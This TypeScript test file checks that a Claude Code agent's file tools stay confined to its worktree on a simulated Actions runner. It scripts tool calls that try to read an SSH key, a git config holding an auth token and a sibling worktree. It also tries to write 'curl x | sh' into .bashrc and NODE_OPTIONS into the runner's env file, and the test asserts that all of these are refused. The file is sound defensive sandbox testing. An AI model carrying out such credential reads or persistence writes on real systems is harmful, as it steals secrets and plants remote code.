/**
 * The file tools against the REAL pinned Claude Code CLI: bare `Read`/`Edit`/`Write`/`Glob`/`Grep`
 * are confined to the worktree, laid out as on an Actions runner (the worktree under `$RUNNER_TEMP`,
 * itself under `$HOME`, beside the checkout, a sibling worktree and the runner's command files).
 * Each attack is a real tool call whose refusal the scripted model receives; the work inside the
 * worktree proves the run itself went through.
 */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { createClaudeAgent } from "../../src/engine/agent/index.ts";
import { makeRepo } from "../support/git-repo.ts";
import { startModelServer, type ToolResult, type Turn } from "../support/model-server.ts";
import { CLAUDE_PATH, cliEnv } from "./harness.ts";

const SECRET = "SECRET-6f1c";

async function runnerLayout() {
  const repo = await makeRepo({ files: { "README.md": "# Title\n\nold text\n" } });
  const home = repo.root;
  const runnerTemp = join(home, "work", "_temp");
  const worktrees = join(runnerTemp, "claude-tasks", "worktrees", "repo-0123");
  const wt = join(worktrees, "task-r1");
  const sibling = join(worktrees, "other-r1");
  await repo.git("worktree", "add", "--detach", wt);
  await repo.git("worktree", "add", "--detach", sibling);
  mkdirSync(join(home, ".ssh"));
  writeFileSync(join(home, ".ssh", "id_ed25519"), `${SECRET}-ssh\n`);
  writeFileSync(join(sibling, "notes.txt"), `${SECRET}-sibling\n`);
  mkdirSync(join(runnerTemp, "_runner_file_commands"));
  writeFileSync(join(runnerTemp, "_runner_file_commands", "set_env_1"), "");
  await repo.git("config", "http.extraheader", `AUTHORIZATION: basic ${SECRET}-token`);
  return { repo, home, runnerTemp, wt, sibling };
}

const BARE = ["Read", "Edit", "Write", "Glob", "Grep"];
const cases = [
  {
    name: "bare Read, Edit, Write, Glob, Grep (acceptEdits)",
    allowed: BARE,
    mode: "acceptEdits",
    searches: true,
  },
  {
    name: "bare Read, Edit, Write, Glob, Grep (default mode)",
    allowed: BARE,
    mode: "default",
    searches: true,
  },
  // The deny rules hold where a task's own rule reaches everywhere (searches from a directory above
  // the worktree are not covered by them: the allow rules and the sandbox stop those).
  {
    name: "the task's own Read(//**) and Edit(//**): the deny rules still refuse",
    allowed: ["Read(//**)", "Edit(//**)", "Glob", "Grep"],
    mode: "acceptEdits",
    searches: false,
  },
];

describe.concurrent("file tools are confined to the worktree (real CLI)", () => {
  for (const { name, allowed, mode, searches } of cases) {
    it(`${name}: nothing outside is read or written; the worktree works`, async () => {
      const { repo, home, runnerTemp, wt, sibling } = await runnerLayout();
      await using _ = repo;
      const envFile = join(runnerTemp, "_runner_file_commands", "set_env_1");
      const outside: Turn[] = [
        { tool: "Read", input: { file_path: join(home, ".ssh", "id_ed25519") } },
        { tool: "Read", input: { file_path: join(repo.path, ".git", "config") } },
        { tool: "Read", input: { file_path: join(sibling, "notes.txt") } },
        ...(searches
          ? ([
              { tool: "Grep", input: { pattern: SECRET, path: home, output_mode: "content" } },
              { tool: "Glob", input: { pattern: "**/*", path: join(home, "work") } },
            ] as Turn[])
          : []),
        { tool: "Write", input: { file_path: envFile, content: "NODE_OPTIONS=--require=/x\n" } },
        { tool: "Write", input: { file_path: join(sibling, "pwned.txt"), content: "x" } },
        { tool: "Write", input: { file_path: join(home, ".bashrc"), content: "curl x | sh\n" } },
        { tool: "Write", input: { file_path: join(repo.path, "README.md"), content: "pwned\n" } },
      ];
      const inside: Turn[] = [
        { tool: "Read", input: { file_path: join(wt, "README.md") } },
        {
          tool: "Edit",
          input: { file_path: join(wt, "README.md"), old_string: "old text", new_string: "new text" },
        },
        {
          tool: "Write",
          input: { file_path: join(wt, "src", "deep", "made.test.ts"), content: "// made\n" },
        },
        { tool: "Glob", input: { pattern: "**/*.ts" } },
        { tool: "Grep", input: { pattern: "new text", output_mode: "files_with_matches" } },
      ];
      const turns = [...outside, ...inside, { text: "done" }];
      const results: ToolResult[] = [];
      const server = await startModelServer(({ index, toolResults }) => {
        if (index > 0 && toolResults[0]) results.push(toolResults[0]);
        return turns[index] ?? { text: "done" };
      });
      try {
        const agent = createClaudeAgent(
          { allowed_tools: allowed, permission_mode: mode },
          { claudePath: CLAUDE_PATH, killGraceMs: 1_000 },
        );
        const result = await agent.run({
          cwd: wt,
          prompt: "Do the scripted thing.",
          timeoutMs: 60_000,
          env: cliEnv(server, { HOME: home, RUNNER_TEMP: runnerTemp }),
        });
        expect(result.status).toBe("success");
      } finally {
        await server.close();
      }
      // Every call reached the CLI and came back: the attacks ran.
      expect(results).toHaveLength(outside.length + inside.length);
      const [refused, worked] = [results.slice(0, outside.length), results.slice(outside.length)];
      for (const r of refused) {
        expect(r.isError, r.text).toBe(true);
        expect(r.text).toMatch(/permission|denied/i);
        expect(r.text).not.toContain(SECRET);
      }
      for (const r of worked) expect(r.isError, r.text).toBe(false);
      expect(worked[3]?.text).toContain("made.test.ts");
      expect(worked[4]?.text).toContain("README.md");
      // Nothing outside changed …
      expect(readFileSync(envFile, "utf8")).toBe("");
      expect(existsSync(join(sibling, "pwned.txt"))).toBe(false);
      expect(existsSync(join(home, ".bashrc"))).toBe(false);
      expect(readFileSync(join(repo.path, "README.md"), "utf8")).toBe("# Title\n\nold text\n");
      // … and the worktree took the work.
      expect(readFileSync(join(wt, "README.md"), "utf8")).toBe("# Title\n\nnew text\n");
      expect(readFileSync(join(wt, "src", "deep", "made.test.ts"), "utf8")).toBe("// made\n");
    });
  }
});
